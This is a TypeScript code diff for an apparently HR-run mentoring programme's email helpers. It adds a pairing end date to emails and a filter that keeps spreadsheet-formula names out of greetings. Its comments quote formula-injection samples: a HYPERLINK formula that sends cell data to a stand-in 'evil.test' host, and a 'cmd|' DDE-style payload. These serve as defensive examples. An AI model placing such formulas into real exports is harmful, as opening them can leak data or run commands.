@@ -49,6 +49,12 @@ export interface NextQuestion {
    * the others keep their own "the end-of-program review comes next".
    */
   finalReviewNextOn?: DateInput;
+  /**
+   * The day the end-of-program review, which ends the pairing, reaches the reader, as the lifecycle
+   * will ask it (pairing/final-review-day.ts): only the emails of HR's schedule change carry it, so
+   * that a pairing shortened or lengthened mid-run is told its end, named after its next question.
+   */
+  pairingEndsOn?: DateInput;
 }
 
 /** Whether the email has something to say about what comes next (nextQuestionSentence). */
@@ -60,9 +66,17 @@ export function hasNextQuestion(next: NextQuestion): boolean {
  * "The next check-in comes on …", or "Next comes your Day 30 review, on …": what the date really
  * brings; or, when the fit check comes first, that one without a date it might not keep; or, with
  * only the end-of-program review left, its day (not a question `hasNextQuestion` counts: an email
- * that names no check-in says so in its own words).
+ * that names no check-in says so in its own words). With `pairingEndsOn` (a schedule change), the
+ * end follows: "Your pairing ends with your end-of-program review, which comes on …", unless that
+ * review is what comes next, named already.
  */
 export function nextQuestionSentence(next: NextQuestion, timeZone: string): string {
+  const sentence = nextQuestionAlone(next, timeZone);
+  if (next.pairingEndsOn === undefined || !hasNextQuestion(next)) return sentence;
+  return `${sentence} Your pairing ends with your end-of-program review, which comes on ${formatDate(next.pairingEndsOn, timeZone)}.`;
+}
+
+function nextQuestionAlone(next: NextQuestion, timeZone: string): string {
   // With a fit check, `nextReview` names what follows it (a review that takes the next check-in's place), undated.
   const after = next.nextReview ? `your ${next.nextReview}` : 'the next check-in';
   if (next.fitCheck === 'next') return `Next comes a short question on whether the pairing is a good fit for you; ${after} follows once it closes.`;
@@ -98,11 +112,14 @@ export function formatDeadline(deadline: DateInput, timeZone: string): string {
 const NAME_SUFFIX = /^(jr|sr|ii|iii|iv|v|phd|md|mba|msc|bsc|ma|ba|esq|obe|mbe|cbe)\.?$/i;
 
 /**
- * Greetings and partner mentions use first names only, whatever the stored name holds. A name
- * written "Last, First" (HR exports often are: "Lovelace, Ada") gives the word after the comma;
- * "Ada Lovelace, Jr." keeps its first word.
+ * A word that can be someone's first name: it has a letter, and does not start as a spreadsheet
+ * formula or a quoted fragment does (= + - @, a quote). Names are stored as typed (docs/emails.md):
+ * `=HYPERLINK("http://evil.test/?x="&A1,"Click me")` must not greet anyone as `"Click`.
  */
-export function firstNameOf(name: string): string {
+const NAME_LIKE = /^(?![=+\-@"'`\u2018\u2019\u201C\u201D])(?=.*\p{L})/su;
+
+/** The first name a stored name gives (firstNameOf), or undefined when the word it gives is no name (NAME_LIKE). */
+function nameLikeFirstName(name: string): string | undefined {
   const whole = name.trim();
   const comma = whole.indexOf(',');
   if (comma > 0) {
@@ -111,10 +128,21 @@ export function firstNameOf(name: string): string {
         .slice(comma + 1)
         .trim()
         .split(/[\s,]+/)[0] ?? '';
-    if (after !== '' && !NAME_SUFFIX.test(after)) return after;
+    if (after !== '' && !NAME_SUFFIX.test(after)) return NAME_LIKE.test(after) ? after : undefined;
   }
-  const first = whole.split(/[\s,]+/)[0];
-  return first === undefined || first === '' ? whole : first;
+  const first = whole.split(/[\s,]+/)[0] ?? '';
+  return NAME_LIKE.test(first) ? first : undefined;
+}
+
+/**
+ * Greetings and partner mentions use first names only, whatever the stored name holds. A name
+ * written "Last, First" (HR exports often are: "Lovelace, Ada") gives the word after the comma;
+ * "Ada Lovelace, Jr." keeps its first word. A word that is no name (NAME_LIKE: a formula, a
+ * fragment in quotes, no letter at all) gives the whole name as stored instead: a mention says what
+ * HR typed, never a piece of it.
+ */
+export function firstNameOf(name: string): string {
+  return nameLikeFirstName(name) ?? name.trim();
 }
 
 /**
@@ -143,9 +171,23 @@ export function capitalised(text: string): string {
   return text.charAt(0).toUpperCase() + text.slice(1);
 }
 
-/** Greets by first name, or plainly when the name is unknown (a manager known by email only). */
+/**
+ * Greets by first name, or plainly when the name is unknown (a manager known by email only) or
+ * gives no first name (NAME_LIKE: "Hello +SUM(1+1)*cmd|'," greets nobody).
+ */
 export function greeting(name: string | undefined): string {
-  return name === undefined || name.trim() === '' ? 'Hello,' : `Hello ${firstNameOf(name)},`;
+  const first = name === undefined ? undefined : nameLikeFirstName(name);
+  return first === undefined ? 'Hello,' : `Hello ${first},`;
+}
+
+/**
+ * Statements written one after another, each a sentence of its own: "Ana can help Mo with AI tools.
+ * Both care about chess and jazz." Each reason or trade-off is a whole sentence that starts with a
+ * capital ("Both care about …"), so a semicolon between them would leave a capital mid-sentence
+ * ("…; Both care about …"), and lowering it would lower a name ("…; ana Souza can help …").
+ */
+export function asSentences(items: readonly string[]): string {
+  return items.map((item) => capitalised(item.trim()).replace(/(?<![.!?])$/, '.')).join(' ');
 }
 
 /** An item that holds a comma or the word "and" ("Social media and creator platforms", "Chen, Wei"). */
